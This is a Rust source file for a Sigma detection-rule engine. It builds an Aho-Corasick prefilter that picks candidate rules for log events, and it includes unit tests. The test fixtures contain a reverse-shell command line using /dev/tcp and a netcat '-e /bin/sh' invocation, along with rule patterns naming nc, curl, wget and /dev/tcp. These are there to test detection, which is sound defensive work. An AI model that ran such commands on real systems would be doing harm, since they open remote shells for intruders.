//! The prefilter: which rules an event could possibly match, found in one pass.
//!
//! Most Sigma rules can only match when some field holds one of a few literal texts
//! (`Image|endswith: /nc`, `CommandLine|contains: base64 -d`…). Each rule is reduced to
//! such a requirement when its condition allows it — a set of (field, text) of which
//! at least one must be present — and the requirements of all the rules of a log source
//! are merged into one Aho-Corasick automaton per field. An event is then scanned once
//! per field, and only the rules whose texts were seen (plus the few that have no
//! requirement: regular expressions, negations, numbers…) are evaluated in full. The
//! cost thus follows the number of rules that *could* match, not the number loaded.
//!
//! The requirement is necessary, never sufficient: a rule found here is still evaluated,
//! so the prefilter can only save work, not change a result.

use std::collections::{BTreeMap, HashMap};

use aho_corasick::AhoCorasick;

use super::condition::Cond;
use super::rule::{Selection, SigmaRule};
use super::value::FieldMatcher;
use crate::document::{as_text, Document};

/// One text a rule may need: `needle` inside field `field` (inside any value when
/// `None`, for keywords). Field names are lower-cased, as fields are found without
/// regard to ASCII case; needles are compared without regard to it.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
struct Atom {
    field: Option<String>,
    needle: String,
}

/// At least one of these atoms is present in any event the rule matches.
type Requirement = Vec<Atom>;

/// Picks, among requirements of which all hold, the one that lets the fewest events
/// through: the one whose shortest text is longest (short texts are common), then
/// the one with the fewest texts.
fn most_selective(candidates: impl Iterator<Item = Option<Requirement>>) -> Option<Requirement> {
    candidates.flatten().max_by_key(|r| {
        let shortest = r.iter().map(|a| a.needle.len()).min().unwrap_or(0);
        (shortest.min(12), std::cmp::Reverse(r.len()))
    })
}

/// Of requirements one of which holds: all their atoms together.
fn union(parts: impl Iterator<Item = Option<Requirement>>) -> Option<Requirement> {
    let mut all = Vec::new();
    for part in parts {
        all.extend(part?);
    }
    Some(all)
}

/// Field names longer than this are not scanned (see [`Prefilter::candidates`]), so
/// items on such fields give no requirement.
const LONGEST_FIELD_NAME: usize = 64;

fn of_item(item: &FieldMatcher) -> Option<Requirement> {
    if item.field().is_some_and(|f| f.len() > LONGEST_FIELD_NAME) {
        return None;
    }
    let field = item.field().map(str::to_ascii_lowercase);
    let literals = item.required_literals()?;
    Some(
        literals
            .into_iter()
            .map(|needle| Atom {
                field: field.clone(),
                needle: needle.to_ascii_lowercase(),
            })
            .collect(),
    )
}

fn of_selection(selection: &Selection) -> Option<Requirement> {
    match selection {
        Selection::All(items) => most_selective(items.iter().map(of_item)),
        Selection::Any(alternatives) => union(alternatives.iter().map(of_selection)),
    }
}

fn of_condition(cond: &Cond, selections: &[Option<Requirement>]) -> Option<Requirement> {
    let sel = |i: &usize| selections[*i].clone();
    match cond {
        Cond::Sel(i) => sel(i),
        Cond::Not(_) => None,
        Cond::And(parts) => most_selective(parts.iter().map(|c| of_condition(c, selections))),
        Cond::Or(parts) => union(parts.iter().map(|c| of_condition(c, selections))),
        Cond::AllOf(ids) => most_selective(ids.iter().map(sel)),
        Cond::AnyOf(ids) => union(ids.iter().map(sel)),
    }
}

/// What `rule` needs to match, or `None` if it must always be evaluated.
fn of_rule(rule: &SigmaRule) -> Option<Requirement> {
    let selections: Vec<_> = rule.selections.iter().map(of_selection).collect();
    let requirement = union(rule.conditions.iter().map(|c| of_condition(c, &selections)))?;
    (!requirement.is_empty()).then_some(requirement)
}

/// One automaton over the texts wanted in one field (or in any value), and for each
/// text the rules that want it.
#[derive(Debug)]
struct Scanner {
    automaton: AhoCorasick,
    wanted_by: Vec<Vec<u32>>,
}

impl Scanner {
    fn new(texts: Vec<(String, Vec<u32>)>) -> Scanner {
        let (needles, wanted_by): (Vec<String>, Vec<Vec<u32>>) = texts.into_iter().unzip();
        // A full DFA: the fastest search, at a memory cost that stays small for the
        // texts of rules (a few MiB for ten thousand).
        let automaton = AhoCorasick::builder()
            .kind(Some(aho_corasick::AhoCorasickKind::DFA))
            .ascii_case_insensitive(true)
            .build(&needles)
            .expect("literal texts always build an automaton");
        Scanner {
            automaton,
            wanted_by,
        }
    }

    fn mark(&self, text: &str, marks: &mut Marks) {
        for found in self.automaton.find_overlapping_iter(text) {
            for &rule in &self.wanted_by[found.pattern().as_usize()] {
                marks.set(rule as usize);
            }
        }
    }
}

/// The prefilter of one list of rules (those of one log source).
#[derive(Debug, Default)]
pub struct Prefilter {
    rules: usize,
    /// Rules with no requirement: always evaluated.
    always: Vec<u32>,
    by_field: HashMap<String, Scanner>,
    keywords: Option<Scanner>,
}

impl Prefilter {
    /// Reduces each of `rules` to its requirement and merges them.
    pub fn new(rules: &[SigmaRule]) -> Prefilter {
        let mut always = Vec::new();
        // Per field (None: any value), each text with the rules that want it; a
        // BTreeMap so that builds are reproducible.
        let mut wanted: BTreeMap<Option<String>, BTreeMap<String, Vec<u32>>> = BTreeMap::new();
        for (index, rule) in rules.iter().enumerate() {
            let index = index as u32;
            let Some(requirement) = of_rule(rule) else {
                always.push(index);
                continue;
            };
            for atom in requirement {
                let owners = wanted
                    .entry(atom.field)
                    .or_default()
                    .entry(atom.needle)
                    .or_default();
                if owners.last() != Some(&index) {
                    owners.push(index);
                }
            }
        }
        let mut by_field = HashMap::new();
        let mut keywords = None;
        for (field, texts) in wanted {
            let scanner = Scanner::new(texts.into_iter().collect());
            match field {
                Some(field) => {
                    by_field.insert(field, scanner);
                }
                None => keywords = Some(scanner),
            }
        }
        Prefilter {
            rules: rules.len(),
            always,
            by_field,
            keywords,
        }
    }

    /// How many of the rules are evaluated on every event, whatever it holds.
    pub fn unfiltered(&self) -> impl Iterator<Item = usize> + '_ {
        self.always.iter().map(|&i| i as usize)
    }

    /// The rules `doc` could match, by index, in order.
    pub fn candidates(&self, doc: &dyn Document) -> Marks {
        let mut marks = Marks::new(self.rules);
        for &rule in &self.always {
            marks.set(rule as usize);
        }
        // Field names are short: lower-cased on the stack. Longer ones are left
        // unscanned; no requirement names them (see `of_item`).
        let mut name = [0u8; LONGEST_FIELD_NAME];
        doc.visit_fields(&mut |field, value| {
            if value.is_null() {
                return;
            }
            let text = as_text(value);
            if let Some(keywords) = &self.keywords {
                keywords.mark(&text, &mut marks);
            }
            let Some(name) = name.get_mut(..field.len()) else {
                return;
            };
            name.copy_from_slice(field.as_bytes());
            name.make_ascii_lowercase();
            let name = std::str::from_utf8(name).expect("ASCII folding keeps UTF-8");
            if let Some(scanner) = self.by_field.get(name) {
                scanner.mark(&text, &mut marks);
            }
        });
        marks
    }
}

/// A set of rule indexes; on the stack for the usual few hundred rules.
pub struct Marks {
    small: [u64; 8],
    large: Vec<u64>,
}

impl Marks {
    fn new(len: usize) -> Marks {
        let words = len.div_ceil(64);
        Marks {
            small: [0; 8],
            large: if words > 8 {
                vec![0; words]
            } else {
                Vec::new()
            },
        }
    }

    fn words(&self) -> &[u64] {
        if self.large.is_empty() {
            &self.small
        } else {
            &self.large
        }
    }

    fn set(&mut self, index: usize) {
        let words = if self.large.is_empty() {
            &mut self.small[..]
        } else {
            &mut self.large[..]
        };
        words[index / 64] |= 1 << (index % 64);
    }

    /// The indexes in the set, smallest first.
    pub fn iter(&self) -> impl Iterator<Item = usize> + '_ {
        self.words().iter().enumerate().flat_map(|(w, &bits)| {
            let mut bits = bits;
            std::iter::from_fn(move || {
                (bits != 0).then(|| {
                    let bit = bits.trailing_zeros() as usize;
                    bits &= bits - 1;
                    w * 64 + bit
                })
            })
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::{json, Map, Value};

    fn rules(yaml: &[&str]) -> Vec<SigmaRule> {
        yaml.iter()
            .enumerate()
            .map(|(i, body)| {
                let text = format!(
                    "title: r{i}\nid: r{i}\nlogsource: {{product: linux}}\ndetection:\n{body}"
                );
                let (mut rules, errors) = super::super::parse_rules(&text, "test");
                assert!(errors.is_empty(), "{errors:?}");
                rules.remove(0)
            })
            .collect()
    }

    fn candidates(prefilter: &Prefilter, doc: Value) -> Vec<usize> {
        let doc: Map<String, Value> = doc.as_object().unwrap().clone();
        prefilter.candidates(&doc).iter().collect()
    }

    #[test]
    fn requirements_follow_the_condition() {
        let set = rules(&[
            // 0: one literal in one field.
            "  sel:\n    Image|endswith: /nc\n  condition: sel\n",
            // 1: and — the longer text is kept.
            "  a:\n    Image|endswith: /sh\n  b:\n    CommandLine|contains: /dev/tcp/\n  condition: a and b\n",
            // 2: or — both.
            "  a:\n    Image|endswith: /wget\n  b:\n    Image|endswith: /curl\n  condition: a or b\n",
            // 3: a negation alone needs nothing: always evaluated.
            "  a:\n    Image|endswith: /ls\n  condition: not a\n",
            // 4: a regular expression with no literal start: always evaluated.
            "  a:\n    CommandLine|re: '\\w+'\n  condition: a\n",
            // 5: keywords, in any value.
            "  keywords:\n    - 'Accepted password'\n  condition: keywords\n",
            // 6: a glob's longest literal run.
            "  a:\n    CommandLine: '*chmod +x*/tmp/*'\n  condition: a\n",
            // 7: a regular expression's possible starts.
            "  a:\n    CommandLine|re: '(nc|NetCat)\\s+-e'\n  condition: a\n",
        ]);
        let p = Prefilter::new(&set);
        assert_eq!(p.unfiltered().collect::<Vec<_>>(), vec![3, 4]);
        assert_eq!(candidates(&p, json!({"Image": "/usr/bin/ls"})), vec![3, 4]);
        assert_eq!(
            candidates(&p, json!({"image": "/usr/bin/NC"})),
            vec![0, 3, 4],
            "field names and texts without regard to ASCII case"
        );
        assert_eq!(
            candidates(
                &p,
                json!({"CommandLine": "bash -i >& /DEV/TCP/1.2.3.4/4444"})
            ),
            vec![1, 3, 4]
        );
        assert_eq!(
            candidates(&p, json!({"Image": "/usr/bin/curl"})),
            vec![2, 3, 4]
        );
        assert_eq!(
            candidates(&p, json!({"msg": "sshd: Accepted password for root"})),
            vec![3, 4, 5]
        );
        assert_eq!(
            candidates(&p, json!({"CommandLine": "chmod +x /tmp/a"})),
            vec![3, 4, 6]
        );
        assert_eq!(
            candidates(&p, json!({"CommandLine": "/bin/netcat -e /bin/sh"})),
            vec![3, 4, 7]
        );
        assert_eq!(
            candidates(&p, json!({"Other": "/usr/bin/nc"})),
            vec![3, 4],
            "a text in another field is not enough"
        );
    }

    #[test]
    fn marks_beyond_the_stack() {
        let mut marks = Marks::new(1000);
        for i in [0, 63, 64, 511, 512, 999] {
            marks.set(i);
        }
        assert_eq!(
            marks.iter().collect::<Vec<_>>(),
            vec![0, 63, 64, 511, 512, 999]
        );
    }
}
